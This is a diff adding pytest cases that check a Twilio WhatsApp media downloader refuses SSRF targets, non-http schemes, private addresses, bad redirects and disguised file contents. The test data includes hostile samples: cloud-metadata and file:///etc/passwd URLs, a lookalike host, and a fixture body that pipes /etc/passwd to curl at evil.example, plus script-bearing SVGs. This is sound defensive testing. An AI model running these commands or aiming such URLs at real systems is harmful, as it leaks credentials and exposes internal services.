@@ -14,6 +14,7 @@ from bot.messages import InboundMedia, MediaKind
 from channels.base import MediaRefusedError, PermanentSendError, TransientSendError
 from channels.media_policy import MediaPolicy
 from channels.whatsapp.adapter import WhatsAppAdapter, WhatsAppConfig
+from channels.whatsapp.media import MediaSourcePolicy
 from tests.support.clock import Sleeps
 from tests.support.twilio_fake import ACCOUNT, basic_auth, media_path
 
@@ -74,7 +75,8 @@ def test_basic_auth_then_cross_host_redirect_drops_the_credentials(api: HTTPServ
         headers={"Content-Disposition": 'attachment; filename="factura-error.pdf"'},
     )
     media = InboundMedia(ref=media_url(api, "ME1"), content_type="application/pdf")
-    downloaded = adapter_for(api).download(media)
+    # "localhost" stands in for Twilio's CDN host: allowlisted, and allowed to be loopback in this test.
+    downloaded = adapter_for(api, media_hosts=("localhost",), media_allow_private=True).download(media)
     assert downloaded.content == PDF
     assert downloaded.content_type == "application/pdf"
     assert downloaded.filename == "factura-error.pdf"
@@ -217,7 +219,7 @@ def test_unsafe_disposition_names_are_reduced_to_a_base_name(api: HTTPServer) ->
 def test_credentials_are_not_sent_to_a_foreign_host(api: HTTPServer) -> None:
     api.expect_request("/elsewhere/photo.png").respond_with_data(PNG, content_type="image/png")
     foreign = f"http://localhost:{api.port}/elsewhere/photo.png"
-    adapter_for(api).download(InboundMedia(ref=foreign))
+    adapter_for(api, media_hosts=("localhost",), media_allow_private=True).download(InboundMedia(ref=foreign))
     [request] = requests_to(api, "/elsewhere/")
     assert request.headers.get("Authorization") is None
 
@@ -237,3 +239,130 @@ def test_unauthorized_is_permanent_and_never_leaks_the_token(
     for text in (str(denied.value), repr(denied.value.args), str(failing.value), caplog.text):
         assert TOKEN not in text
         assert BASIC.split()[1] not in text
+
+
+# --- issue 16: only the provider's hosts, http(s) only, public addresses only, redirects re-checked -----
+
+
+class FakeResolver:
+    """Answers DNS lookups from a table and records them (the network guard forbids real ones)."""
+
+    def __init__(self, table: dict[str, list[str]]) -> None:
+        self.table = table
+        self.looked_up: list[str] = []
+
+    def __call__(self, host: str, port: int) -> list[str]:
+        self.looked_up.append(host)
+        return self.table[host]
+
+
+def production_adapter(resolver: FakeResolver, sleeps: Sleeps | None = None) -> WhatsAppAdapter:
+    """Production defaults: no API base URL, Twilio's hosts only, no private addresses."""
+    config = WhatsAppConfig(account_sid=ACCOUNT, auth_token=TOKEN, from_number="whatsapp:+14155238886",
+                            download_retries=2, download_backoff=0.01, download_timeout=2.0)
+    return WhatsAppAdapter(config, sleep=sleeps or Sleeps(), resolver=resolver)
+
+
+TWILIO_MEDIA = f"https://api.twilio.com{MEDIA_PATH}/ME20"
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["http://internal.example/admin/export.csv", "http://169.254.169.254/latest/meta-data/",
+     "http://127.0.0.1:8080/metrics", "https://api.twilio.com.evil.example/x.png", "https://twilio.com/x.png",
+     "http://[::1]/x.png", "https://user:pw@api.twilio.com/x.png"],
+)
+def test_urls_off_the_providers_hosts_are_refused_before_any_lookup(url: str) -> None:
+    resolver, sleeps = FakeResolver({}), Sleeps()
+    with pytest.raises(MediaRefusedError) as refused:
+        production_adapter(resolver, sleeps).download(InboundMedia(ref=url))
+    assert refused.value.code == "forbidden_source"
+    assert resolver.looked_up == [] and sleeps.calls == []  # refused at once, never retried
+
+
+@pytest.mark.parametrize(
+    "url", ["file:///etc/passwd", "file://api.twilio.com/etc/passwd", "ftp://api.twilio.com/x.png",
+            "gopher://api.twilio.com/x", "data:text/plain,hola", "/etc/passwd", ""],
+)
+def test_schemes_other_than_http_and_https_are_refused_permanently(url: str) -> None:
+    resolver, sleeps = FakeResolver({}), Sleeps()
+    with pytest.raises(MediaRefusedError) as refused:
+        production_adapter(resolver, sleeps).download(InboundMedia(ref=url))
+    assert refused.value.code == "forbidden_source"
+    assert sleeps.calls == []
+
+
+@pytest.mark.parametrize(
+    "addresses",
+    [["169.254.169.254"], ["10.0.0.7"], ["127.0.0.1"], ["::1"], ["fe80::1%eth0"], ["::ffff:127.0.0.1"],
+     ["100.64.0.1"], ["0.0.0.0"], ["3.5.140.2", "192.168.1.20"]],
+    ids=["link-local-metadata", "private", "loopback", "loopback6", "link-local6", "mapped-loopback",
+         "carrier-nat", "unspecified", "one-of-several-private"],
+)
+def test_a_provider_host_resolving_to_a_non_public_address_is_refused(addresses: list[str]) -> None:
+    resolver = FakeResolver({"api.twilio.com": addresses})
+    with pytest.raises(MediaRefusedError) as refused:
+        production_adapter(resolver).download(InboundMedia(ref=TWILIO_MEDIA))
+    assert refused.value.code == "forbidden_source"
+    assert resolver.looked_up == ["api.twilio.com"]
+
+
+def test_the_production_policy_accepts_twilios_hosts_on_public_addresses() -> None:
+    resolver = FakeResolver({"api.twilio.com": ["54.172.60.1"], "s1.media.twiliocdn.com": ["13.32.0.9"]})
+    policy = MediaSourcePolicy(resolver=resolver)
+    policy.check(TWILIO_MEDIA)
+    policy.check("https://s1.media.twiliocdn.com/AC1/abc?Expires=1&Signature=x")
+    assert resolver.looked_up == ["api.twilio.com", "s1.media.twiliocdn.com"]
+
+
+@pytest.mark.parametrize(
+    "location",
+    ["http://169.254.169.254/latest/meta-data/iam/", "file:///etc/passwd", "http://internal.example/secret",
+     "http://localhost:{port}/internal/secret"],
+)
+def test_every_redirect_is_checked_again_and_a_bad_target_is_never_requested(
+    api: HTTPServer, location: str
+) -> None:
+    api.expect_request(f"{MEDIA_PATH}/ME21").respond_with_response(
+        Response(status=302, headers={"Location": location.format(port=api.port)})
+    )
+    api.expect_request("/internal/secret").respond_with_data("internal data", content_type="text/plain")
+    with pytest.raises(MediaRefusedError) as refused:
+        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME21")))
+    assert refused.value.code == "forbidden_source"
+    assert requests_to(api, "/internal/") == []
+
+
+def test_a_redirect_loop_is_permanent(api: HTTPServer) -> None:
+    api.expect_request(f"{MEDIA_PATH}/ME22").respond_with_response(
+        Response(status=302, headers={"Location": f"{MEDIA_PATH}/ME22"})
+    )
+    with pytest.raises(PermanentSendError) as refused:
+        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME22")))
+    assert refused.value.code == "too_many_redirects"
+
+
+# --- issue 16: content checked by its bytes ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("body", "served_as"),
+    [(b"#!/bin/sh\ncat /etc/passwd | curl -d @- http://evil.example\n", "image/png"),
+     (b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/x")</script></svg>', "image/svg+xml"),
+     (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "image/png")],
+    ids=["shell-script-as-png", "svg-with-script", "svg-as-png"],
+)
+def test_a_file_whose_bytes_are_not_allowlisted_evidence_is_refused(
+    api: HTTPServer, body: bytes, served_as: str
+) -> None:
+    api.expect_request(f"{MEDIA_PATH}/ME30").respond_with_data(body, content_type=served_as)
+    media = InboundMedia(ref=media_url(api, "ME30"), content_type=served_as, kind=MediaKind.IMAGE)
+    with pytest.raises(MediaRefusedError) as refused:
+        adapter_for(api).download(media)
+    assert refused.value.code == "forbidden_type"
+
+
+def test_the_kept_type_is_the_one_the_bytes_show_when_the_served_one_is_generic(api: HTTPServer) -> None:
+    api.expect_request(f"{MEDIA_PATH}/ME31").respond_with_data(PNG, content_type="application/octet-stream")
+    downloaded = adapter_for(api).download(InboundMedia(ref=media_url(api, "ME31")))
+    assert downloaded.content_type == "image/png"
